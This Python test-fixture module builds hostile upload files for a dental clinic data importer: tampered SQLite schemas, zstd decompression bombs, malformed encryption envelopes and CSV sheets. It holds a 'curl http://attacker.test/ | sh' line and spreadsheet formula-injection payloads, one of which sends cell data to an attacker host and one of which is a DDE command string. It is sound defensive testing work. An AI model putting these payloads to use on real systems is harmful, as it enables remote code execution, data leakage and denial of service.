"""Hostile files: containers, sheets and binaries made to break or fool the importer.

Each builder takes the small clinic's SQLite bytes (`tests/dpmf_builder.py`,
names and all, so a plaintext copy left behind is recognisable) and returns the
bytes an attacker would upload. The SQL edits go through the reader tests'
`damage.edit_sql`, which can give the edited file a matching integrity hash, so
the hostile part reaches the checks behind the hash.
"""

from __future__ import annotations

import json
import random
import struct

from dentalpin_import.reader.crypto import MAGIC as DPME_MAGIC
from dentalpin_import.sample.generator import pdf_bytes, png_bytes
from dentalpin_import.sample.writer import WarningRow
from tests.dentalpin_import.reader import damage as D

SQLITE_MAGIC = b"SQLite format 3\x00"
# What a plaintext copy of the small clinic (or of the sheets below) holds.
PLAINTEXT_MARKS = (SQLITE_MAGIC, b"Paciente1", "Ibáñez".encode(), "Núñez".encode(), b"Centinela")
PNG = png_bytes(11)
PDF = pdf_bytes(5)
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"This program cannot be run in DOS mode"
HTML = b"<!doctype html><html><body><script>fetch('/import/')</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://attacker.test/ | sh\n"
ZIP = b"PK\x03\x04" + b"\x14\x00" + b"\x00" * 24 + b"evil.exe" + b"\x00" * 64
FORMULA = '=HYPERLINK("http://attacker.test/?"&A1,"click me")'
FORMULAS = (FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1,1)", "-2+3")


def sql(plain: bytes, script: str, *, rehash: bool = True) -> bytes:
    """`plain` with `script` run on it (CHECKs off), rehashed unless told not to."""

    def edit(conn, rng):
        conn.executescript(script)

    return D.edit_sql(random.Random(28), plain, edit, rehash=rehash)


# --- hostile schemas ---------------------------------------------------------------------------

VIEW = "CREATE VIEW everyone AS SELECT * FROM patient"
TRIGGER = (
    "CREATE TRIGGER grow AFTER INSERT ON patient BEGIN "
    "INSERT INTO patient SELECT * FROM patient; END"
)
RTREE = "CREATE VIRTUAL TABLE lookup USING rtree(id, x0, x1)"
FTS = "CREATE VIRTUAL TABLE notes USING fts5(body)"
# 10 MB computed on every read of every row, from a file of a few kilobytes.
GENERATED_VIRTUAL = (
    "ALTER TABLE patient ADD COLUMN bulk TEXT "
    "GENERATED ALWAYS AS (printf('%.*c', 10000000, 'x')) VIRTUAL"
)
# A stored one cannot be added by ALTER TABLE: the table is made again with it.
GENERATED_STORED = (
    "CREATE TABLE c2 (canonical_uuid TEXT PRIMARY KEY, source_id TEXT, source_system TEXT, "
    "payload TEXT, raw_source_data TEXT, extracted_at TEXT, "
    "big TEXT GENERATED ALWAYS AS (printf('%.*c', 100000, 'x')) STORED); "
    "INSERT INTO c2 (canonical_uuid, source_id, source_system, payload, raw_source_data, "
    "extracted_at) SELECT * FROM client; DROP TABLE client; ALTER TABLE c2 RENAME TO client"
)
EXTRA_ENTITY_COLUMN = "ALTER TABLE patient ADD COLUMN diagnosis TEXT"
EXTRA_FILES_COLUMN = "ALTER TABLE _files ADD COLUMN download_url TEXT"
EXTRA_WARNING_COLUMNS = (
    "ALTER TABLE _warnings ADD COLUMN a; ALTER TABLE _warnings ADD COLUMN b; "
    "ALTER TABLE _warnings ADD COLUMN c"
)
RENAMED_COLUMN = "ALTER TABLE appointment RENAME COLUMN payload TO datos"
META_BLOB = (
    "CREATE TABLE m (key, value); INSERT INTO m SELECT * FROM _meta; DROP TABLE _meta; "
    "ALTER TABLE m RENAME TO _meta; "
    "UPDATE _meta SET value = x'67657364656e00ff' WHERE key = 'source_system'"
)
ENTITY_NAME_NUMBER = "INSERT INTO _entities VALUES (42, 0, '0.1.0')"
NOT_UTF8 = "UPDATE patient SET payload = CAST(x'7b2241223a2243656e74696e656c61ff227d' AS TEXT)"
LYING_COUNT = "UPDATE _entities SET row_count = 1000000 WHERE entity_type = 'patient'"
LYING_VERSION = "UPDATE _meta SET value = '1.0.0' WHERE key = 'format_version'"
LYING_ALGO = "UPDATE _meta SET value = 'crc32' WHERE key = 'integrity_hash_algo'"
GHOST_TYPE = "INSERT INTO _entities VALUES ('ghost', 500, '0.1.0')"


def huge_payload(plain: bytes, size: int) -> bytes:
    """One patient's notes `size` bytes long, hashed: a value no real row holds."""
    return sql(
        plain,
        f"UPDATE patient SET payload = json_set(payload, '$.notes', printf('%.*c', {size}, 'n')) "
        "WHERE source_id = '1'",
    )


def header_page_count(plain: bytes) -> bytes:
    """The database header says it holds far more pages than it does."""
    return plain[:28] + struct.pack(">I", 5_000_000) + plain[32:]


# --- zstd bombs --------------------------------------------------------------------------------


def bomb_declared() -> bytes:
    """64 KB of zstd that declares 2 GiB of content."""
    return D.rle_bomb(1 << 31, declared=True)


def bomb_hidden() -> bytes:
    """64 KB of zstd that unpacks to 2 GiB and does not say so."""
    return D.rle_bomb(1 << 31, declared=False)


def bomb_frames(frames: int = 40) -> bytes:
    """Many small frames, each within any cap, together far past it."""
    return D.rle_bomb(1 << 22, declared=True) * frames


def bomb_sealed() -> bytes:
    """A hidden-size bomb in a well-formed envelope (the right passphrase opens it)."""
    return D.seal(bomb_hidden(), "zstd")


# --- encryption envelopes with a bad header ----------------------------------------------------


def envelope(header: bytes, body: bytes = b"\x00" * 64) -> bytes:
    return DPME_MAGIC + struct.pack("<I", len(header)) + header + body


def sealed_header(plain: bytes) -> dict:
    sealed = D.seal(plain, "raw")
    length = int.from_bytes(sealed[4:8], "little")
    return json.loads(sealed[8 : 8 + length])


def envelope_with(plain: bytes, **changes) -> bytes:
    """A real envelope of `plain` whose clear header was edited after sealing."""
    sealed = D.seal(plain, "raw")
    length = int.from_bytes(sealed[4:8], "little")
    header = json.loads(sealed[8 : 8 + length])
    for key, value in changes.items():
        if key.startswith("kdf_"):
            header["kdf_params"][key.removeprefix("kdf_")] = value
        else:
            header[key] = value
    return envelope(json.dumps(header).encode(), sealed[8 + length :])


def envelope_huge_header() -> bytes:
    return DPME_MAGIC + struct.pack("<I", 50 * 1024 * 1024) + b"{" * 1024


def envelope_not_json() -> bytes:
    return envelope(b"<?xml version='1.0'?><header/>")


# --- sheets ------------------------------------------------------------------------------------

PATIENT_HEADER = "LegacyPatientID,First Name,Last Name,Date of Birth,Email Address"


def sheet(*rows: str, header: str = PATIENT_HEADER) -> bytes:
    return ("\r\n".join([header, *rows]) + "\r\n").encode("utf-8")


def formula_sheet() -> bytes:
    """Formulas where ids and names go; each row also has a bad e-mail, so it is warned about."""
    quoted = ['"' + v.replace('"', '""') + '"' for v in FORMULAS]
    return sheet(*(f"{v},Lucía,Centinela,1980-01-02,nope" for v in quoted))


def nul_sheet() -> bytes:
    return sheet("P1,Lucía\x00\x00,Centinela,1980-01-02,")


def huge_cell_sheet(size: int = 10 * 1024 * 1024) -> bytes:
    return sheet(f"P1,{'L' * size},Centinela,1980-01-02,")


def mixed_encoding_sheet() -> bytes:
    utf8 = "P1,José,Núñez,1980-01-02,\r\nP2,María,Ibáñez,1981-01-02,\r\n".encode()
    latin = "P3,Iñaki,Centinela,1982-01-02,\r\n".encode("latin-1")
    return PATIENT_HEADER.encode() + b"\r\n" + utf8 + latin


def open_quote_sheet() -> bytes:
    return sheet('P1,"Lucía,Centinela,1980-01-02,', "P2,Ana,Ibáñez,1981-01-02,")


def formula_warnings() -> list[WarningRow]:
    """`_warnings` of a DPMF file whose type, id and text are formulas (copied at execute)."""
    return [
        WarningRow("warn", "source.note", formula, FORMULAS[i - 1], FORMULAS[i - 2])
        for i, formula in enumerate(FORMULAS)
    ]
